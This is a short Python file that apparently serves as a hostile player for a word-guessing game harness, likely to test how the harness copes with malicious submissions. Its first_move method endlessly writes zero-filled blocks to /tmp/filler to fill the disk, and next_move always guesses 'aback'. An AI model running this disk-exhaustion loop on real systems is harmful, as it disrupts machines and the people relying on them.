"""Fills the disk."""


class Attack:
    def first_move(self):
        with open("/tmp/filler", "wb") as file:
            while True:
                file.write(bytes(1 << 20))

    def next_move(self, guess, epsilon, clues):
        return "aback", 0
